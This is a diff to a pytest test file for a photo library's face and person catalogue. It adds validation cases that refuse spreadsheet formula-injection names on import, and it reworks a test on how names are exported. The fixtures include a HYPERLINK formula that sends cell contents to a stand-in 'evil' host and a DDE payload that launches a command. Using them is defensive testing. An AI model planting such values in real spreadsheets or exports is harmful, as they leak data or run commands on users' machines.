@@ -8,17 +8,14 @@ import shutil
 from pathlib import Path
 
 import pytest
-from hypothesis import example, given
-from hypothesis import strategies as st
 
-from faceorg.catalog import faces, people, photos, vectors
+from faceorg.catalog import clusters, faces, people, photos, vectors
 from faceorg.domain import Box
 from faceorg.errors import Cancelled, InvalidInput
 from faceorg.library.exports import documents
 from faceorg.library.exports.exchange import export_decisions, import_decisions
 from faceorg.library.opening import history
 from faceorg.library.people import edits
-from faceorg.library.people.names import clean_name
 from faceorg.messages.codes import ProblemCode, ReasonCode
 from faceorg.progress import CancelToken
 
@@ -81,6 +78,9 @@ REFUSED = [
     (with_person(id=-1), ReasonCode.NUMBER_OUT_OF_RANGE),
     (with_person(born_on="1981-02-30"), ReasonCode.ENTRY_OF_WRONG_KIND),
     (with_person(born_on="9999-01-01"), ReasonCode.NUMBER_OUT_OF_RANGE),
+    (with_person(name='=HYPERLINK("http://evil/?x="&A1,"click")'), ReasonCode.NAME_IS_A_FORMULA),
+    (with_person(name="=cmd|' /C calc'!A0"), ReasonCode.NAME_IS_A_FORMULA),
+    (with_person(name="=SUM(A1)", looks_like_formula="yes"), ReasonCode.ENTRY_OF_WRONG_KIND),
     (with_person(name="\u200b\u200b"), ProblemCode.NAME_EMPTY),
     (with_person(name="Anna\u202ecod.exe"), ProblemCode.NAME_WITH_CONTROL_CHARACTERS),
     (with_person(name=["Anna"]), ReasonCode.ENTRY_OF_WRONG_KIND),
@@ -133,8 +133,8 @@ def test_the_documents_that_went_wrong_are_refused_and_the_sound_one_is_not(fiel
             sound.append(file.name)
         except InvalidInput:
             refused.append(file.name)
-    assert sound == ["name_formula.json", "valid_drawn.json"]  # a name like any other: a table shows it, see exports
-    assert len(refused) == 9
+    assert sound == ["valid_drawn.json"]
+    assert len(refused) == 10
 
 
 def test_names_that_only_look_odd_are_taken(family):
@@ -148,18 +148,12 @@ def test_names_that_only_look_odd_are_taken(family):
     assert {person.name for person in people.people(family.library.catalog)} == set(names)
 
 
-@given(st.text())
-@example('=HYPERLINK("http://evil/?x="&A1,"click")')
-@example("-Anna (Ben's)!")
-@example("@home (old)")
-def test_every_name_that_a_person_can_have_is_taken(typed):
-    """An export of a library is never refused for how somebody is called in it."""
-    try:
-        name = clean_name(typed)
-    except InvalidInput:
-        return
-    found = documents.checked(json.loads(json.dumps(with_person(name=name))), "x.json")
-    assert found.people[0].name == name
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil/?x="&A1,"click")', "-Anna (Ben's)!", "@home (old)", "=1+1"])
+def test_an_export_is_never_refused_for_how_somebody_is_called_in_it(family, name):
+    """A name that looks like a formula came from a sidecar, or somebody wanted it: the export says that it is meant."""
+    edits.name_cluster(family.library, clusters.clusters(family.library.catalog)[0].id, name)
+    exported = json.loads(json.dumps(export_decisions(family.library)))
+    assert [person.name for person in documents.checked(exported, "x.json").people] == [name]
 
 
 def test_two_people_of_one_name_stay_two(family):
